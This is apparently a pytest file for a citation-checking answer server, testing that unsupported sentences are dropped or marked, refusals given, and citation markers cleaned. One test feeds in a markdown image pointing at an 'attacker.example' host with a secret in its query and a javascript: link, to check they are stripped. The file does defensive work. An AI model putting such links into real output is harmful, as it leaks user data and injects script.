"""What a model writes leaves the server only where a passage of the run says it."""

from __future__ import annotations

import re
from typing import Any

import pytest

from askem.testing.openai_server import text

QUESTION = "SIDARTHE stages of infection"
TRUE = "The SIDARTHE model has eight stages of infection [1]."


@pytest.mark.parametrize(
    "written",
    [
        "It was first described in 1849 [99].",
        "It was first described in 1849.",
        "It was first described in 1849 [1].",
        "The SIDARTHE model has nine stages of infection [1].",
        "The SIDARTHE model has no stages of infection [1].",
        "# Stages of infection [1]",
        "```\nprint('eight stages')\n```",
        "It is so【1†source】.",
    ],
)
def test_what_no_source_has_is_left_out(open_door: Any, written: str) -> None:
    answer = open_door([text(f"{TRUE}\n\n{written}")]).answer(QUESTION)
    assert answer["answer"] == TRUE
    assert [doc["passage_id"] for doc in answer["used_docs"]] == ["sidarthe#p0"]


def test_unsupported_sentences_are_marked_where_that_is_set(open_door: Any) -> None:
    written = f"{TRUE} It was first described in 1849 [99]."
    answer = open_door([text(written)], unsupported="mark").answer(QUESTION)
    assert answer["answer"] == (f"{TRUE} It was first described in 1849. (not found in its source)")
    assert [sentence["verdict"] for sentence in answer["sentences"]] == [
        "found in source",
        "not found",
    ]
    assert answer["sentences"][1]["citations"] == []
    assert answer["sentences"][1]["missing"] == ["the passage it names was not seen"]


@pytest.mark.parametrize("unsupported", ["drop", "mark"])
def test_nothing_left_is_a_refusal(open_door: Any, unsupported: str) -> None:
    written = "The passages do not answer this."
    answer = open_door([text(written)], unsupported=unsupported).answer(QUESTION)
    assert (answer["refused"], answer["reason"]) == (True, "no support")
    assert answer["used_docs"] == []
    assert answer["sentences"] == []
    assert answer["confidence"] is None
    assert answer["found_instead"][0]["passage_id"] == "sidarthe#p0"
    assert written not in answer["answer"]


@pytest.mark.parametrize(
    "written",
    [
        "The SIDARTHE model ![](http://attacker.example/?q=secret) has eight stages [1].",
        "The [SIDARTHE](javascript:alert(1)) model has eight stages [1](http://attacker.example).",
    ],
)
def test_links_of_a_models_own_do_not_leave(open_door: Any, written: str) -> None:
    answer = open_door([text(written)]).answer(QUESTION)
    assert "attacker" not in str(answer)
    assert "](" not in answer["answer"]
    assert answer["answer"].endswith("has eight stages [1].")


def test_markers_of_a_sentence_that_do_not_hold_are_taken_off(open_door: Any) -> None:
    written = "The SIDARTHE model has eight stages of infection [1][2][42]."
    answer = open_door([text(written)]).answer(QUESTION)
    assert answer["answer"] == TRUE


def test_brackets_in_a_quotation_do_not_pass_for_markers(open_door: Any) -> None:
    door = open_door([text('It says "Tremor of the volcano preceded the eruption [39]" [1].')])
    answer = door.answer("tremor of the volcano")
    markers = re.findall(r"\[\d+\]", answer["answer"])
    assert set(markers) <= {"[1]"}
    assert len(answer["used_docs"]) == 1


def test_lists_keep_their_shape(open_door: Any) -> None:
    written = (
        "- The SIDARTHE model has eight stages of infection [1].\n"
        "- It was fitted to 46 days of data from Lombardy [1].\n"
        "- It was fitted to 99 days [1].\n"
    )
    answer = open_door([text(written)]).answer(QUESTION)
    assert answer["answer"].splitlines() == [
        "- The SIDARTHE model has eight stages of infection [1].",
        "- It was fitted to 46 days of data from Lombardy [1].",
    ]
    assert answer["dropped"] == 1


def test_what_is_missing_is_named(open_door: Any) -> None:
    written = "The SIDARTHE model has nine stages of infection [1]."
    answer = open_door([text(f"{TRUE} {written}")], unsupported="mark").answer(QUESTION)
    assert answer["sentences"][1]["verdict"] == "not found"
    assert any("nine" in missing for missing in answer["sentences"][1]["missing"])


def test_no_confidence_was_measured_for_what_a_model_writes(open_door: Any) -> None:
    answer = open_door([text("The SIDARTHE model has eight stages of infection [1].")]).answer(
        "SIDARTHE stages of infection"
    )
    assert (answer["refused"], answer["confidence"]) == (False, None)
    assert "not measured" in answer["confidence_basis"]
